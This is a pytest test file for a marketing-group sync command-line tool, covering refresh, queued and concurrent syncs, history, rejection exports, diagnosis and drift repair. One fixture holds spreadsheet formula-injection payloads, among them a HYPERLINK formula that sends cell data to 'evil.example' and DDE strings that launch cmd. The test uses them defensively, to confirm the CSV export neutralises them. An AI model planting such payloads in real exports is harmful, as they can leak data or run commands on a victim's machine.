"""The connection's commands: refresh, sync (queued, waited for, with and without a worker),
history, rejections and diagnose, against a community served on loopback."""

from __future__ import annotations

import csv
import io
import itertools
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from sqlalchemy import delete
from typer.testing import CliRunner

from kith.app import create_worker
from kith.cli import app
from kith.cli.context import console
from kith.clock import utcnow
from kith.config import Settings, get_settings
from kith.connection.drift import check_drift
from kith.db import Database
from kith.marketing.models import GroupMember
from kith.marketing.workers import workers_alive
from tests.support.connection_world import World, joined_world

EVERYONE = {"field": "contact_key", "op": "starts_with", "value": "m"}


@pytest.fixture
def world(
    community_db: Database,
    marketing_db: Database,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[World]:
    """A joined world whose `kith` commands (and workers) use its marketing database."""
    monkeypatch.setenv("KITH_MARKETING_DB_URL", marketing_db.url)
    monkeypatch.setenv("KITH_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("KITH_SECRET_KEY", settings.secret_key or "")
    get_settings.cache_clear()
    with joined_world(community_db, marketing_db, settings) as joined:
        joined.members(
            ("m1", "L1", "one@example.org"),
            ("m2", "L2", "two@example.org"),
            ("m3", None, "three@example.org"),
            ("m4", "L4", "four at example.org"),
        )
        joined.subscribers(
            ("one@example.org", "L1", "subscribed"), ("two@example.org", "L2", "bounced")
        )
        joined.list("Informz Everyone", EVERYONE)
        joined.list("Infromz Typo", EVERYONE)
        yield joined
    get_settings.cache_clear()


def kith(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["marketing", "groups", *args])
    return result.exit_code, result.output


def test_refresh_then_sync_and_wait_without_a_worker_runs_here(world: World) -> None:
    code, output = kith("refresh")
    assert code == 0, output
    assert "added     Everyone" in output
    assert "near-miss 'Infromz Typo'" in output

    code, output = kith("sync", "everyone", "--wait", "--json")

    assert code == 0, output
    result = orjson.loads(output)
    assert {key: result[key] for key in ("group", "status", "in_list", "members", "added")} == {
        "group": "Everyone",
        "status": "completed",
        "in_list": 4,
        "members": 1,
        "added": 1,
    }
    assert result["skipped"] == {
        "missing_contact_key": 1,
        "malformed_email": 1,
        "duplicate_email": 0,
        "no_matching_subscriber": 0,
        "unsubscribed": 0,
        "bounced": 1,
        "erased": 0,
    }
    code, output = kith("list", "--folder", "Online Community", "--json")
    [group] = orjson.loads(output)
    assert (group["member_count"], group["sync_status"]) == (1, "completed")


def test_a_worker_carries_out_queued_syncs(world: World) -> None:
    assert kith("refresh")[0] == 0
    worker = create_worker(get_settings(), workers=1)
    worker.start()
    try:
        assert workers_alive(world.marketing, now=utcnow()) == 1
        code, output = kith("sync", "Everyone", "--wait", "--json")
    finally:
        worker.stop()
    assert code == 0, output
    assert orjson.loads(output)["members"] == 1
    assert workers_alive(world.marketing, now=utcnow()) == 0


def test_without_wait_the_sync_is_queued_for_a_worker(world: World) -> None:
    kith("refresh")
    code, output = kith("sync", "Everyone")
    assert code == 0
    assert "queued" in output and "No worker is running" in output
    code, again = kith("sync", "Everyone")
    assert "already running" in again

    worker = create_worker(get_settings(), workers=1)
    worker.start()
    try:
        code, output = kith("sync", "Everyone", "--wait", "--json")  # returns the queued run
    finally:
        worker.stop()
    assert orjson.loads(output)["status"] == "completed"


def test_concurrent_requests_from_three_processes_never_run_two_syncs_at_once(
    world: World,
) -> None:
    kith("refresh")
    command = [sys.executable, "-m", "kith", "marketing", "groups", "sync", "Everyone"]
    processes = [
        subprocess.Popen([*command, "--wait", "--json"], stdout=subprocess.PIPE, text=True)
        for _ in range(3)
    ]
    outputs = [process.communicate(timeout=120)[0] for process in processes]

    assert [process.returncode for process in processes] == [0, 0, 0]
    returned = {orjson.loads(output)["run"] for output in outputs}
    _, history = kith("history", "Everyone", "--json")
    runs = sorted(orjson.loads(history), key=lambda run: run["run"])
    assert {run["run"] for run in runs} == returned  # a request during a run got that run
    assert all(run["status"] == "completed" for run in runs)
    for earlier, later in itertools.pairwise(runs):  # one at a time: none began before ...
        assert earlier["finished_at"] <= later["started_at"]  # ... the one before it ended


def test_history_rejections_and_diagnosis_explain_the_counts(world: World) -> None:
    kith("refresh")
    kith("sync", "Everyone", "--wait")

    code, output = kith("rejections", "Everyone", "--csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(output)))
    assert {(row["contact_key"], row["reason"]) for row in rows} == {
        ("m2", "bounced"),
        ("m3", "missing_contact_key"),
        ("m4", "malformed_email"),
    }
    code, output = kith("rejections", "Everyone", "--reason", "bounced", "--json")
    assert [row["email"] for row in orjson.loads(output)] == ["two@example.org"]

    code, output = kith("diagnose", "Everyone", "--json")
    found: dict[str, Any] = orjson.loads(output)
    assert found["last_sync"]["skipped"]["bounced"] == 1
    assert any("1 match a subscriber whose address bounced" in line for line in found["findings"])

    code, output = kith("diagnose", "Infromz Typo")
    assert code == 0 and "misspelling" in output and "near-miss" in output

    world.list("Informz Brand New", EVERYONE)
    code, output = kith("diagnose", "Informz Brand New")
    assert "no refresh has run since it was created" in output


FORMULA_MEMBERS = (  # contact key, legacy contact key, email: each one a spreadsheet would run
    ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)", "=cmd|' /C calc'!A0"),
    ("\t=1+1", "-2+3", "+1+cmd|' /C calc'!A0"),
)


def test_rejections_as_csv_quote_member_cells_that_would_run_as_formulas(world: World) -> None:
    world.members(*FORMULA_MEMBERS)
    keys = [contact_key for contact_key, _, _ in FORMULA_MEMBERS]
    world.list("Informz Formulas", {"field": "contact_key", "op": "in", "value": keys})
    kith("refresh")
    kith("sync", "Formulas", "--wait")

    code, output = kith("rejections", "Formulas", "--csv")

    assert code == 0, output
    rows = list(csv.reader(io.StringIO(output, newline="")))
    assert rows[0] == ["contact_key", "legacy_contact_key", "email", "reason"]
    assert sorted(row[:3] for row in rows[1:]) == sorted(
        ["'" + cell for cell in member] for member in FORMULA_MEMBERS
    )
    assert {row[3] for row in rows[1:]} == {"malformed_email"}


def test_a_failed_or_held_sync_exits_1(world: World) -> None:
    kith("refresh")
    world.configure(active=False)
    code, output = kith("sync", "Everyone", "--wait")
    assert code == 1 and "not Active" in output


def test_a_group_switched_to_manual_and_back_to_live_says_so(world: World) -> None:
    kith("refresh")
    kith("sync", "Everyone", "--wait")

    code, output = kith("live", "everyone", "--off")
    assert (code, output) == (0, "Everyone: Manual\n")
    code, output = kith("list", "--json")
    assert [group["live"] for group in orjson.loads(output)] == [False]
    assert kith("show", "everyone")[1].endswith("1 members, manual\n")

    code, output = kith("live", "Everyone", "--on", "--json")
    assert code == 0, output
    assert orjson.loads(output) == {
        "group": "Everyone",
        "live": True,
        "paused": "no worker is running (kith serve or kith worker)",
        "last_change": None,
    }


def test_live_shows_the_last_change_the_live_pass_applied(world: World) -> None:
    kith("refresh")
    kith("sync", "Everyone", "--wait")
    world.subscribers(("five@example.org", "L5", "subscribed"))
    world.members(("m5", "L5", "five@example.org"))
    [run] = world.live_pass()

    code, output = kith("live", "Everyone")

    assert code == 0, output
    assert output.startswith("Everyone: Live (paused: no worker is running")
    assert (
        f"; last change applied {run.finished_at.isoformat(timespec='seconds')} (+1 -0)" in output
    )


def test_only_community_groups_are_live_or_manual(world: World) -> None:
    kith("create", "--name", "Handpicked")

    code, output = kith("live", "Handpicked", "--off")

    assert code != 0
    assert "'Handpicked' is a static group; only community groups are live or manual" in output


def test_history_shows_the_drift_a_drift_check_repaired(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    kith("refresh")
    kith("sync", "Everyone", "--wait")
    with world.marketing.transaction() as session:  # the membership tampered with
        session.execute(delete(GroupMember))

    check_drift(world.marketing, world.settings, now=utcnow() + timedelta(hours=25))
    code, output = kith("history", "Everyone", "--json")

    assert code == 0, output
    assert [(run["trigger"], run["drift"]) for run in orjson.loads(output)] == [
        ("drift", 1),
        ("manual", None),
    ]
    monkeypatch.setattr(console, "width", 160)  # a table's cells unwrapped
    assert "│ completed, drift 1 │" in kith("history", "Everyone")[1]
    assert world.group_remote_ids("Everyone") == {"L1"}
